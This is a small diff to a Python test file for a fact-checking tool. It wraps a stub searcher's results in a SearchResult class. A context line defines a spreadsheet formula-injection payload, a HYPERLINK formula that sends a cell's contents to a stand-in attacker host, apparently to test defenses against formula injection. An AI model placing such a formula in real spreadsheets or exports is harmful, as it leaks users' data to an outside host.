@@ -12,6 +12,7 @@ from factcheck.errors import BadInputError
 
 from factcheck.report.run import run_report
 from factcheck.settings import Settings
+from factcheck.verdict.result import SearchResult
 from tests.helpers import run_main
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
@@ -23,9 +24,12 @@ class UnsupportedSearcher:
     settings = Settings(model="hash-test")
 
     def search_many(self, claims, k=5):
-        return [{"claim": c, "claimed_speaker": s, "verdict": "unsupported", "partial": False,
-                 "confidence": 0.0, "attribution": None, "earliest": None, "appearances": [],
-                 "matches": [], "provenance": {}} for c, s in claims]
+        return [SearchResult.from_dict(
+            {"claim": c, "claimed_speaker": s, "verdict": "unsupported", "partial": False,
+             "confidence": 0.0, "attribution": None, "earliest": None, "appearances": [],
+             "matches": [], "provenance": {"model": "hash-test", "index_version": "v",
+                                           "checked_at": "2025-01-01T00:00:00+00:00"}})
+            for c, s in claims]
 
 
 # --- defect 9: a formula as a column name ------------------------------------------------------
